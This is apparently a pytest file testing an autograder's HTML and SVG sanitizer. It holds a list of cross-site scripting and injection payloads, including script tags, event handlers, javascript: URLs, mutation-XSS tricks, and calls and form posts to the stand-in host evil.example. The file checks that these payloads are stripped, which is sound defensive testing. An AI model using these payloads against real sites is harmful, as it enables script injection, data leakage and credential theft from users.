"""Foreign HTML and SVG written anew."""

import re

import pytest

from autograder.feedback import markup

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    '<img src="data:text/html,<script>alert(1)</script>">',
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><image href='https://evil.example/x.png'/><use href='https://evil.example/x#y'/></svg>",
    "<svg><path fill='url(https://evil.example/x)' style='fill:url(//evil.example)'/></svg>",
    "<svg><path fill='u\\72l(https://evil.example/x)'/></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<p style='margin-top:-500px'>x</p>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    "<video src=https://evil.example onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "<div\x00onclick=alert(1)>x",
    "<div/onclick=alert(1)>x</div>",
    "<x onclick=alert(1)>x</x>",
    '<p title="\'><script>alert(1)</script>">x</p>',
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</div></main></body><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
TAG = re.compile(r"<(/?)([A-Za-z]+)((?: [A-Za-z-]+=\"[^\"<>]*\")*)>")


def check(written):
    """Every `<` opens a tag of the list whose attributes are all of the list, and every tag is closed in order."""
    assert len(TAG.findall(written)) == written.count("<"), written
    opened = []
    for end, name, attributes in TAG.findall(written):
        assert name in markup.HTML_TAGS | set(markup.SVG_TAGS.values())
        if end:
            assert opened.pop() == name
        elif name not in markup.VOID:
            opened.append(name)
        for key, value in re.findall(r'([\w-]+)="([^"]*)"', attributes):
            assert not key.startswith("on")
            assert key in {"href", "src", "rel", "style", "xmlns", *markup.ATTRIBUTES, *markup.SVG_ATTRIBUTES.values()}
            assert key != "href" or re.match(r"https?://|#", value)
            assert key != "src" or re.match("data:image/(png|jpeg|gif|webp);base64,", value)
            assert key in ("href", "xmlns", "title", "alt") or "evil.example" not in value
    assert not opened


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "<table><tr><td>{}", "<svg><g>{}</g></svg>", "<b title='{}'>", "<!-- {}"])
def test_only_listed_tags_and_attributes_are_written(attack, around):
    text = around.format(attack)
    check(markup.html(text))
    check(markup.svg(text))
    assert markup.html(markup.html(text)) == markup.html(text)


def test_tables_and_colours_survive():
    table = '<table><thead><tr><th style="text-align:right">a</th></tr></thead></table><p>1 &lt; 2</p>'
    assert markup.html(table) == table
    assert markup.html('<span style="color: rgb(1, 2, 3); position: fixed">x</span>') == (
        '<span style="color:rgb(1, 2, 3)">x</span>'
    )
    assert markup.html("a < b & c") == "a &lt; b &amp; c"


def test_pictures_keep_their_shape():
    drawing = (
        '<?xml version="1.0"?><svg viewBox="0 0 9 9"><linearGradient id="a"/><path d="M0 0" fill="url(#a)"/></svg>'
    )
    assert markup.svg(drawing) == (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><linearGradient id="a"></linearGradient>'
        '<path d="M0 0" fill="url(#a)"></path></svg>'
    )
    assert markup.svg("no picture") == ""


def test_nesting_has_an_end():
    assert markup.html("<b>" * 1000 + "x").count("<b>") == markup.DEEPEST


def test_the_text_of_markup_is_what_a_reader_sees_and_what_its_attributes_say():
    assert markup.text('<b>asse</b>rt &lt;x&gt;<i title="more">!</i>').split("\n") == ["assert <x>!", "more"]
